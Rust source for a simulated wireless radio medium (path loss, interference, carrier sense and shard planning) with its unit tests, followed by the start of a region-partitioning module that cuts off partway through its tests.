    pub fn plan_is_current(&self, plan: &TxPlan) -> bool {
        plan.versions[..plan.nversions as usize]
            .iter()
            .all(|&(ch, v)| self.channel_versions[ch as usize] == v)
    }

    /// The mutating half of [`Self::complete_tx`]: mark the transmission
    /// completed, fold the counter deltas in, and hand back the
    /// deliveries. The caller (the sharded loop) must ensure the plan is
    /// current — [`Self::plan_is_current`] — or replan; this method
    /// trusts it.
    pub fn commit_complete(&mut self, plan: TxPlan) -> Vec<Delivery> {
        let s = &mut self.txs[plan.handle.slot as usize];
        assert_eq!(s.gen, plan.handle.gen, "unknown or pruned transmission");
        let t = s.tx.as_mut().expect("unknown or pruned transmission");
        assert!(!t.completed, "complete_tx called twice");
        assert_eq!(t.end, plan.end, "commit at wrong time");
        t.completed = true;
        self.halfduplex_misses += plan.halfduplex_misses;
        self.sinr_drops += plan.sinr_drops;
        self.mutation_epoch += 1;
        plan.deliveries
    }

    /// Carrier sense: is any in-flight transmission audible at `radio`
    /// above the CCA threshold (including adjacent-channel energy)?
    /// Walks only the channel buckets within the interaction span; a
    /// sparse tx with no stored sample for `radio` is below the audible
    /// floor and can never trip CCA.
    pub fn channel_busy(&self, now: SimTime, radio: RadioId) -> bool {
        let r = &self.radios[radio.0 as usize];
        for ch in interacting_channels(r.channel) {
            for &oslot in &self.by_channel[ch] {
                let t = self.txs[oslot as usize].tx.as_ref().unwrap();
                if t.start <= now && now < t.end && t.src != radio {
                    let Some(rej) = aci_rejection_db(t.channel.abs_diff(r.channel)) else {
                        continue;
                    };
                    if stored_rx_power_at(t, radio.0 as usize)
                        .is_some_and(|p| p - rej >= self.params.cca_threshold_dbm)
                    {
                        return true;
                    }
                }
            }
        }
        false
    }

    /// Number of registered radios.
    pub fn radio_count(&self) -> usize {
        self.radios.len()
    }

    /// Source position of an in-flight transmission, frozen at begin
    /// time — the shard-routing key for its completion event.
    pub fn tx_src_pos(&self, handle: TxHandle) -> Pos {
        self.tx_ref(handle).src_pos
    }

    /// Conservative audible radius of an in-flight transmission: the
    /// distance at which its received power falls to the audible floor.
    /// Infinite when the floor is unreachable (degenerate parameters).
    /// Used with [`crate::RegionMap::disc_crosses_region`] to classify
    /// boundary events.
    pub fn tx_audible_range_m(&self, handle: TxHandle) -> f64 {
        let t = self.tx_ref(handle);
        max_range_m(
            t.tx_power_dbm,
            self.audible_floor_dbm,
            self.params.ref_loss_db,
            self.params.path_loss_exponent,
        )
    }

    /// Transmission records currently retained (in-flight plus completed
    /// ones that still overlap an in-flight frame) — the working-set the
    /// `complete_tx` scans walk. Exposed for tests and benches.
    pub fn tx_backlog(&self) -> usize {
        self.txs.iter().filter(|s| s.tx.is_some()).count()
    }

    /// Total `(radio, dBm)` received-power entries stored across all
    /// retained transmissions — the per-tx power-map memory footprint:
    /// O(registry) per dense tx, O(audible) per sparse tx. Exposed for
    /// tests and benches.
    pub fn power_map_entries(&self) -> usize {
        self.txs
            .iter()
            .filter_map(|s| s.tx.as_ref())
            .map(|t| match &t.power {
                TxPower::Dense(v) => v.len(),
                TxPower::Sparse { audible, overrides } => audible.len() + overrides.len(),
            })
            .sum()
    }

    /// Pairwise path-loss cache statistics: (pairs cached, hits,
    /// misses). Exposed for tests and metrics mirroring.
    pub fn pathloss_cache_stats(&self) -> (usize, u64, u64) {
        self.cache.stats()
    }

    /// `begin_tx` calls served by a cached audible row (sparse path
    /// only). Exposed for tests and metrics mirroring.
    pub fn audible_rows_reused(&self) -> u64 {
        self.row_reuses
    }

    /// Validation hook: route every subsequent `begin_tx` through the
    /// dense O(registry) fill even at σ == 0, exactly as the pre-cull
    /// medium did. The sparse fast path is required to be delivery- and
    /// counter-identical to this reference (see the
    /// `medium_sparse_equiv` property suite).
    pub fn force_dense(&mut self, on: bool) {
        self.force_dense = on;
    }

    /// Drop completed transmissions that can no longer overlap anything.
    ///
    /// A completed record matters only while it can interfere with a
    /// frame still in the air (or one begun later — which starts at
    /// `now` or after). Both are bounded below by `horizon`: the
    /// earliest in-flight start, or `now` when the air is clear. A
    /// completed tx ending at or before `horizon` can never satisfy
    /// the overlap test again, so dropping it cannot change any SINR
    /// sum.
    fn prune(&mut self, now: SimTime) {
        let horizon = self
            .txs
            .iter()
            .filter_map(|s| s.tx.as_ref())
            .filter(|t| !t.completed)
            .map(|t| t.start)
            .min()
            .unwrap_or(now);
        // Free prunable slots, remembering which channel buckets and
        // source vecs they sat in — only those get swept, never the
        // whole (O(radios)) bucket table.
        let mut touched_ch: u16 = 0;
        let mut srcs = std::mem::take(&mut self.prune_src_scratch);
        srcs.clear();
        for (i, s) in self.txs.iter_mut().enumerate() {
            let prunable =
                s.tx.as_ref()
                    .is_some_and(|t| t.completed && t.end <= horizon);
            if prunable {
                let t = s.tx.take().unwrap();
                s.gen = s.gen.wrapping_add(1);
                touched_ch |= 1 << t.channel;
                srcs.push(t.src.0);
                self.free_tx.push(i as u32);
            }
        }
        if touched_ch != 0 {
            // A freed slot has `tx == None` and cannot have been reused
            // yet (reuse only happens in a later begin_tx, after this
            // sweep), so is_some() exactly separates live from freed.
            // Bucket order is preserved for the survivors.
            let txs = &self.txs;
            for ch in 1..=14usize {
                if touched_ch & (1 << ch) != 0 {
                    self.by_channel[ch].retain(|&slot| txs[slot as usize].tx.is_some());
                }
            }
            for &src in &srcs {
                self.by_src[src as usize].retain(|&slot| txs[slot as usize].tx.is_some());
            }
        }
        self.prune_src_scratch = srcs;
    }
}

thread_local! {
    /// Per-thread interferer-slot scratch for [`Medium::plan_complete`]
    /// (which runs concurrently on the rayon pool in the sharded loop).
    static INTERF_SCRATCH: std::cell::RefCell<Vec<u32>> =
        const { std::cell::RefCell::new(Vec::new()) };
}

/// The power sample `tx` stored for radio `ri`, if any. A sparse miss
/// means the radio sat below the audible floor at begin time (or
/// registered mid-flight) — enough to rule out decode and CCA without
/// touching geometry.
fn stored_rx_power_at(tx: &Transmission, ri: usize) -> Option<f64> {
    if ri as u32 >= tx.radios_at_start {
        return None;
    }
    match &tx.power {
        TxPower::Dense(v) => v.get(ri).copied(),
        TxPower::Sparse { audible, overrides } => audible
            .binary_search_by_key(&(ri as u32), |e| e.0)
            .ok()
            .map(|k| audible[k].1)
            .or_else(|| overrides.iter().find(|e| e.0 == ri as u32).map(|e| e.1)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn medium() -> Medium {
        Medium::new(MediumParams::default(), Seed(1))
    }

    fn bytes(n: usize) -> Bytes {
        Bytes::from(vec![0xA5u8; n])
    }

    #[test]
    fn nearby_radio_receives() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        let ds = m.complete_tx(end, h);
        assert_eq!(ds.len(), 1);
        assert_eq!(ds[0].to, b);
        assert_eq!(ds[0].bytes.len(), 100);
        // 15 dBm - (40 + 30·log10(10)) = 15 - 70 = -55 dBm.
        assert!((ds[0].rssi_dbm - -55.0).abs() < 1e-9);
    }

    #[test]
    fn out_of_range_radio_misses() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _far = m.add_radio(Pos::new(2000.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        assert!(m.complete_tx(end, h).is_empty());
    }

    #[test]
    fn off_channel_radio_misses_but_nonoverlap_no_interference() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _b = m.add_radio(Pos::new(10.0, 0.0), 6, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(100), Bitrate::B11);
        assert!(
            m.complete_tx(end, h).is_empty(),
            "channel 6 cannot decode channel 1"
        );
    }

    #[test]
    fn broadcast_reaches_all_on_channel() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let _b = m.add_radio(Pos::new(10.0, 0.0), 6, 15.0);
        let _c = m.add_radio(Pos::new(0.0, 20.0), 6, 15.0);
        let _sniffer = m.add_radio(Pos::new(30.0, 30.0), 6, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(64), Bitrate::B1);
        let ds = m.complete_tx(end, h);
        assert_eq!(
            ds.len(),
            3,
            "everyone in range hears broadcast, incl. sniffer"
        );
    }

    #[test]
    fn same_channel_overlap_collides() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
        let _victim = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        // Two equal-power transmissions fully overlapping at the victim.
        let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(200), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let d2 = m.complete_tx(e2, h2);
        // Equal power => SINR ≈ 0 dB < 10 dB threshold: both die at victim.
        // (a and b themselves were transmitting, so receive nothing either.)
        assert!(d1.is_empty() && d2.is_empty());
        // The victim's two losses are SINR kills; a and b were deaf
        // because they were transmitting — distinct counters.
        assert_eq!(m.sinr_drops, 2, "victim loses both frames to SINR");
        assert_eq!(m.halfduplex_misses, 2, "each tx radio deaf to the other");
        assert_eq!(m.collisions(), 4, "total preserves the pre-split sum");
    }

    #[test]
    fn capture_effect_stronger_frame_survives() {
        let mut m = medium();
        let strong = m.add_radio(Pos::new(1.0, 0.0), 1, 20.0);
        let weak = m.add_radio(Pos::new(200.0, 0.0), 1, 10.0);
        let victim = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, strong, bytes(100), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, weak, bytes(100), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let d2 = m.complete_tx(e2, h2);
        assert!(d1.iter().any(|d| d.to == victim), "strong frame captures");
        assert!(!d2.iter().any(|d| d.to == victim), "weak frame lost");
    }

    #[test]
    fn half_duplex_transmitter_hears_nothing() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(5.0, 0.0), 1, 15.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(1000), Bitrate::B1);
        // b transmits briefly during a's long frame.
        let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(10), Bitrate::B11);
        let d2 = m.complete_tx(e2, h2);
        assert!(
            !d2.iter().any(|d| d.to == a),
            "a is mid-transmission, cannot receive"
        );
        let d1 = m.complete_tx(e1, h1);
        assert!(
            !d1.iter().any(|d| d.to == b),
            "b transmitted during a's frame"
        );
    }

    #[test]
    fn channel_busy_reflects_inflight_tx() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let off = m.add_radio(Pos::new(10.0, 0.0), 11, 15.0);
        assert!(!m.channel_busy(SimTime::ZERO, b));
        let (_h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        let mid = SimTime(end.as_nanos() / 2);
        assert!(m.channel_busy(mid, b));
        assert!(!m.channel_busy(mid, off), "channel 11 clear of channel 1");
        assert!(!m.channel_busy(end, b), "ended tx no longer busy");
    }

    #[test]
    fn disabled_radio_neither_sends_nor_receives() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        m.set_enabled(b, false);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        assert!(m.complete_tx(end, h).is_empty());
    }

    #[test]
    fn retune_changes_reception() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        m.set_channel(b, 6);
        assert_eq!(m.channel(b), 6);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        assert_eq!(m.complete_tx(end, h).len(), 1);
    }

    #[test]
    fn mobility_changes_rssi() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let near = m.rssi_estimate_dbm(a, b);
        m.set_pos(b, Pos::new(40.0, 0.0));
        let far = m.rssi_estimate_dbm(a, b);
        assert!(near > far);
    }

    #[test]
    #[should_panic(expected = "complete_tx called twice")]
    fn double_complete_panics() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
        m.complete_tx(end, h);
        m.complete_tx(end, h);
    }

    #[test]
    fn adjacent_channel_interference_corrupts() {
        // A strong adjacent-channel (offset 1) interferer leaks enough
        // energy past the 12 dB rejection to destroy a marginal frame.
        let mut m = medium();
        let tx = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let victim_rx = m.add_radio(Pos::new(60.0, 0.0), 6, 15.0); // ~ -68 dBm
        let jammer = m.add_radio(Pos::new(61.0, 0.0), 7, 20.0); // loud, next door
        let _ = victim_rx;
        let (h1, e1) = m.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, jammer, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let _ = m.complete_tx(e2, h2);
        assert!(
            d1.is_empty(),
            "adjacent-channel leakage must swamp the marginal frame"
        );
        // Without the jammer the same frame decodes.
        let mut m2 = medium();
        let tx = m2.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
        let _rx = m2.add_radio(Pos::new(60.0, 0.0), 6, 15.0);
        let (h, e) = m2.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
        assert_eq!(m2.complete_tx(e, h).len(), 1);
    }

    #[test]
    fn nonoverlapping_channel_never_interferes() {
        // Channels 1 and 6 (the paper's Figure 1 split): even a blaring
        // co-located transmitter cannot corrupt the other channel.
        let mut m = medium();
        let tx = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let _rx = m.add_radio(Pos::new(60.0, 0.0), 1, 15.0);
        let blaster = m.add_radio(Pos::new(60.0, 1.0), 6, 30.0);
        let (h1, e1) = m.begin_tx(SimTime::ZERO, tx, bytes(200), Bitrate::B11);
        let (h2, e2) = m.begin_tx(SimTime::ZERO, blaster, bytes(200), Bitrate::B11);
        let d1 = m.complete_tx(e1, h1);
        let _ = m.complete_tx(e2, h2);
        assert_eq!(d1.len(), 1, "channel-6 energy must not touch channel 1");
    }

    #[test]
    fn midflight_registered_radio_hears_nothing() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        // A radio appears mid-flight: no rx power was sampled for it.
        let late = m.add_radio(Pos::new(5.0, 0.0), 1, 15.0);
        let ds = m.complete_tx(end, h);
        assert!(
            !ds.iter().any(|d| d.to == late),
            "mid-flight radio heard a frame it has no sampled power for"
        );
        assert_eq!(m.halfduplex_misses, 0, "no counter corruption");
        assert_eq!(m.sinr_drops, 0, "no counter corruption");
        assert_eq!(m.frames_sent, 1);
    }

    #[test]
    fn completed_txs_are_pruned_and_do_not_interfere() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        // A long run of back-to-back frames: the working set must stay
        // bounded instead of accumulating completed records.
        let mut t = SimTime::ZERO;
        for _ in 0..100 {
            let (h, end) = m.begin_tx(t, a, bytes(100), Bitrate::B11);
            let ds = m.complete_tx(end, h);
            assert_eq!(ds.len(), 1, "sequential frames never collide");
            assert_eq!(ds[0].to, b);
            t = end;
        }
        assert!(
            m.tx_backlog() <= 2,
            "completed txs must be pruned, kept {}",
            m.tx_backlog()
        );
        assert_eq!(
            m.sinr_drops, 0,
            "non-overlapping history is not interference"
        );
        // And pruning must not rewrite physics: a completed frame that
        // still overlaps an in-flight one keeps interfering.
        let (h1, e1) = m.begin_tx(t, a, bytes(1000), Bitrate::B1);
        let t2 = SimTime(t.as_nanos() + 1000);
        let (h2, e2) = m.begin_tx(t2, b, bytes(10), Bitrate::B11);
        let _ = m.complete_tx(e2, h2);
        let d1 = m.complete_tx(e1, h1);
        assert!(
            !d1.iter().any(|d| d.to == b),
            "b transmitted during a's frame: still half-duplex deaf"
        );
    }

    #[test]
    fn shadowing_perturbs_rssi_deterministically() {
        let mk = || {
            let p = MediumParams {
                shadowing_sigma_db: 6.0,
                ..MediumParams::default()
            };
            let mut m = Medium::new(p, Seed(7));
            let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
            let _b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
            let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B1);
            m.complete_tx(end, h)
        };
        let d1 = mk();
        let d2 = mk();
        assert_eq!(d1.len(), d2.len());
        if let (Some(x), Some(y)) = (d1.first(), d2.first()) {
            assert_eq!(x.rssi_dbm, y.rssi_dbm, "same seed, same shadowing");
            assert_ne!(x.rssi_dbm, -55.0, "shadowing actually applied");
        }
    }

    // ------------------------------------------------------------------
    // Sparse fast-path regression tests (cache / cull / overlap index)
    // ------------------------------------------------------------------

    #[test]
    fn sparse_power_maps_stay_o_audible() {
        let mut m = medium();
        // A 40×40 grid at 100 m pitch: ~4 km on a side, far beyond the
        // ~200 m decode horizon of any single transmitter.
        let mut ids = Vec::new();
        for i in 0..1600u32 {
            let pos = Pos::new((i % 40) as f64 * 100.0, (i / 40) as f64 * 100.0);
            ids.push(m.add_radio(pos, 1, 15.0));
        }
        let (h, end) = m.begin_tx(SimTime::ZERO, ids[0], bytes(100), Bitrate::B1);
        let stored = m.power_map_entries();
        assert!(
            stored < 32,
            "corner radio must store a neighbourhood, not the registry ({stored})"
        );
        let ds = m.complete_tx(end, h);
        assert!(!ds.is_empty(), "neighbours still decode at 1 Mbps");
    }

    #[test]
    fn audible_rows_are_reused_until_geometry_changes() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let mut t = SimTime::ZERO;
        for _ in 0..10 {
            let (h, end) = m.begin_tx(t, a, bytes(10), Bitrate::B11);
            m.complete_tx(end, h);
            t = end;
        }
        assert_eq!(m.audible_rows_reused(), 9, "row rebuilt only once");
        m.set_pos(b, Pos::new(20.0, 0.0));
        let (h, end) = m.begin_tx(t, a, bytes(10), Bitrate::B11);
        m.complete_tx(end, h);
        assert_eq!(m.audible_rows_reused(), 9, "move must invalidate the row");
    }

    #[test]
    fn set_pos_invalidates_cache_and_deliveries_track_the_move() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(2000.0, 0.0), 1, 15.0);
        let fire = |m: &mut Medium, t: SimTime| {
            let (h, end) = m.begin_tx(t, a, bytes(10), Bitrate::B11);
            (m.complete_tx(end, h), end)
        };
        let (ds, t1) = fire(&mut m, SimTime::ZERO);
        assert!(ds.is_empty(), "b starts out of range");
        // Walk b into range: the cached loss for (a, b) must refresh.
        m.set_pos(b, Pos::new(10.0, 0.0));
        assert!((m.rssi_estimate_dbm(a, b) - -55.0).abs() < 1e-9);
        let (ds, t2) = fire(&mut m, t1);
        assert_eq!(ds.len(), 1, "after the move b decodes");
        assert_eq!(ds[0].to, b);
        // And back out again.
        m.set_pos(b, Pos::new(2000.0, 0.0));
        let (ds, _) = fire(&mut m, t2);
        assert!(ds.is_empty(), "stale cache must not deliver to a far radio");
    }

    #[test]
    fn midflight_move_keeps_begin_time_power() {
        // Dense semantics: power is sampled at begin_tx. A radio that
        // walks out of range mid-flight still decodes; one that walks
        // into range mid-flight still misses.
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let near = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let far = m.add_radio(Pos::new(2000.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        m.set_pos(near, Pos::new(2000.0, 100.0));
        m.set_pos(far, Pos::new(10.0, 10.0));
        let ds = m.complete_tx(end, h);
        assert!(
            ds.iter().any(|d| d.to == near),
            "begin-time power decodes even after walking away"
        );
        assert!(
            !ds.iter().any(|d| d.to == far),
            "begin-time power still out of range after walking in"
        );
    }

    #[test]
    fn midflight_move_pins_interference_sample() {
        // An interferer's victim-side power is read at complete time; a
        // mid-flight move of the victim must not rewrite the begin-era
        // sample. Run the same schedule sparse and forced-dense and
        // require bit-identical deliveries and counters.
        let run = |force_dense: bool| {
            let mut m = medium();
            let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
            let b = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
            let victim = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
            m.force_dense(force_dense);
            let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(200), Bitrate::B11);
            let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(200), Bitrate::B11);
            m.set_pos(victim, Pos::new(11.0, 3.0));
            let d1 = m.complete_tx(e1, h1);
            let d2 = m.complete_tx(e2, h2);
            let sig: Vec<(u32, u64)> = d1
                .iter()
                .chain(d2.iter())
                .map(|d| (d.to.0, d.rssi_dbm.to_bits()))
                .collect();
            (sig, m.halfduplex_misses, m.sinr_drops)
        };
        assert_eq!(run(false), run(true));
    }

    #[test]
    fn midflight_registered_then_moved_radio_stays_out_of_range() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(500), Bitrate::B1);
        // Registered mid-flight, then moved mid-flight: still invisible
        // to the in-flight tx (no begin-time sample, no override).
        let late = m.add_radio(Pos::new(5.0, 0.0), 1, 15.0);
        m.set_pos(late, Pos::new(3.0, 0.0));
        let ds = m.complete_tx(end, h);
        assert!(!ds.iter().any(|d| d.to == late));
        assert_eq!((m.halfduplex_misses, m.sinr_drops), (0, 0));
    }

    #[test]
    fn plan_commit_matches_complete_and_staleness_is_detected() {
        // A plan made before a conflicting begin_tx must read as stale;
        // replanning + committing must reproduce exactly what a pure
        // serial complete_tx computes in an identical world.
        let run_serial = || {
            let mut m = medium();
            let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
            let b = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
            let _victim = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
            let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(200), Bitrate::B11);
            let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(200), Bitrate::B11);
            let d1 = m.complete_tx(e1, h1);
            let d2 = m.complete_tx(e2, h2);
            let sig: Vec<(u32, u64)> = d1
                .iter()
                .chain(d2.iter())
                .map(|d| (d.to.0, d.rssi_dbm.to_bits()))
                .collect();
            (sig, m.halfduplex_misses, m.sinr_drops)
        };
        let run_planned = || {
            let mut m = medium();
            let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
            let b = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
            let _victim = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
            let (h1, e1) = m.begin_tx(SimTime::ZERO, a, bytes(200), Bitrate::B11);
            let early = m.plan_complete(e1, h1);
            assert!(m.plan_is_current(&early), "nothing changed yet");
            // b's overlapping same-channel tx bumps channel 1: the early
            // plan (which saw no interferer) is now stale.
            let (h2, e2) = m.begin_tx(SimTime::ZERO, b, bytes(200), Bitrate::B11);
            assert!(
                !m.plan_is_current(&early),
                "conflicting begin_tx must invalidate the plan"
            );
            let d1 = m.commit_complete(m.plan_complete(e1, h1));
            let d2 = m.commit_complete(m.plan_complete(e2, h2));
            let sig: Vec<(u32, u64)> = d1
                .iter()
                .chain(d2.iter())
                .map(|d| (d.to.0, d.rssi_dbm.to_bits()))
                .collect();
            (sig, m.halfduplex_misses, m.sinr_drops)
        };
        assert_eq!(run_serial(), run_planned());
    }

    #[test]
    fn retune_and_power_toggle_invalidate_plans() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let (h, end) = m.begin_tx(SimTime::ZERO, a, bytes(10), Bitrate::B11);
        let plan = m.plan_complete(end, h);
        m.set_channel(b, 3);
        assert!(!m.plan_is_current(&plan), "retune within span must bump");
        let plan = m.plan_complete(end, h);
        m.set_enabled(b, false);
        assert!(!m.plan_is_current(&plan), "power-off must bump");
        // A retune far outside the interaction span is invisible.
        let c = m.add_radio(Pos::new(500.0, 0.0), 11, 15.0);
        let plan = m.plan_complete(end, h);
        m.set_channel(c, 12);
        assert!(
            m.plan_is_current(&plan),
            "channel 11→12 cannot affect a channel-1 completion"
        );
        assert_eq!(m.commit_complete(plan).len(), 0, "b is disabled");
    }

    #[test]
    fn medium_is_sync_for_the_parallel_plan_phase() {
        fn assert_sync<T: Sync>() {}
        assert_sync::<Medium>();
        assert_sync::<TxPlan>();
    }

    #[test]
    fn rssi_estimate_serves_from_cache() {
        let mut m = medium();
        let a = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let b = m.add_radio(Pos::new(10.0, 0.0), 1, 15.0);
        let first = m.rssi_estimate_dbm(a, b);
        let (_, hits0, _) = m.pathloss_cache_stats();
        let second = m.rssi_estimate_dbm(b, a);
        let (_, hits1, _) = m.pathloss_cache_stats();
        assert_eq!(first.to_bits(), second.to_bits(), "symmetric estimate");
        assert!(hits1 > hits0, "reverse direction must hit the cache");
    }
}
