//! Spatial regions: the shard-ownership partition for the lockstep loop.
//!
//! The sharded event loop (DESIGN.md §15) partitions the world into
//! vertical stripes built on the same grid-cell quantisation as
//! [`crate::grid`]: a radio's region is a pure function of its position,
//! so region assignment is deterministic and free of tie-breaking. A
//! transmission *belongs* to the region of its source; its audible disc
//! may spill into neighbouring stripes, in which case it is a *boundary*
//! event — still executed in global `(time, seq)` order like everything
//! else (correctness never depends on the partition), but counted in the
//! `sim.boundary_crossings` metric so shard quality is observable.

use crate::propagation::Pos;

/// Stripe width quantum, matched to the spatial grid's cell edge so a
/// stripe boundary never bisects a grid cell.
const STRIPE_QUANTUM_M: f64 = 64.0;

/// A fixed vertical-stripe partition of the world's x-extent.
#[derive(Clone, Debug)]
pub struct RegionMap {
    regions: usize,
    min_x: f64,
    stripe_m: f64,
}

impl RegionMap {
    /// Partition `[min_x, max_x]` into `regions` stripes of equal width
    /// (rounded up to the grid quantum). One region means "everything
    /// is local" — the serial degenerate case.
    pub fn new(regions: usize, min_x: f64, max_x: f64) -> RegionMap {
        assert!(regions >= 1, "need at least one region");
        let extent = (max_x - min_x).max(STRIPE_QUANTUM_M);
        let raw = extent / regions as f64;
        let stripe_m = (raw / STRIPE_QUANTUM_M).ceil().max(1.0) * STRIPE_QUANTUM_M;
        RegionMap {
            regions,
            min_x,
            stripe_m,
        }
    }

    /// Number of regions in the partition.
    pub fn regions(&self) -> usize {
        self.regions
    }

    /// The region owning `pos`. Positions left of `min_x` clamp into the
    /// first stripe, positions past the last stripe into the final one —
    /// mobility may carry radios outside the initial bounding box.
    pub fn region_of(&self, pos: Pos) -> usize {
        let idx = ((pos.x - self.min_x) / self.stripe_m).floor();
        (idx.max(0.0) as usize).min(self.regions - 1)
    }

    /// The x-interval `[lo, hi)` owned by `region`. The first stripe
    /// extends to `-inf` and the last to `+inf` (mirroring the clamp in
    /// [`Self::region_of`]); interior edges are exact multiples of the
    /// stripe width. Tests use this to *place* radios just inside or
    /// across a boundary rather than probing for one.
    pub fn stripe_span(&self, region: usize) -> (f64, f64) {
        assert!(region < self.regions, "region out of range");
        let lo = if region == 0 {
            f64::NEG_INFINITY
        } else {
            self.min_x + region as f64 * self.stripe_m
        };
        let hi = if region == self.regions - 1 {
            f64::INFINITY
        } else {
            self.min_x + (region + 1) as f64 * self.stripe_m
        };
        (lo, hi)
    }

    /// Does a disc of `range_m` around `center` reach outside the stripe
    /// owning `center`? True means an event sourced there is a boundary
    /// event: its audible set may span regions.
    pub fn disc_crosses_region(&self, center: Pos, range_m: f64) -> bool {
        if self.regions == 1 {
            return false;
        }
        let home = self.region_of(center);
        let lo = self.region_of(Pos::new(center.x - range_m, center.y));
        let hi = self.region_of(Pos::new(center.x + range_m, center.y));
        lo != home || hi != home
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn single_region_owns_everything() {
        let map = RegionMap::new(1, 0.0, 1000.0);
        assert_eq!(map.region_of(Pos::new(-1e6, 0.0)), 0);
        assert_eq!(map.region_of(Pos::new(1e6, 0.0)), 0);
        assert!(!map.disc_crosses_region(Pos::new(500.0, 0.0), 1e9));
    }

    #[test]
    fn stripes_partition_the_extent() {
        let map = RegionMap::new(4, 0.0, 1024.0);
        // 1024 m / 4 = 256 m stripes (already on the 64 m quantum).
        assert_eq!(map.region_of(Pos::new(0.0, 50.0)), 0);
        assert_eq!(map.region_of(Pos::new(255.0, 0.0)), 0);
        assert_eq!(map.region_of(Pos::new(256.0, 0.0)), 1);
        assert_eq!(map.region_of(Pos::new(1023.0, 0.0)), 3);
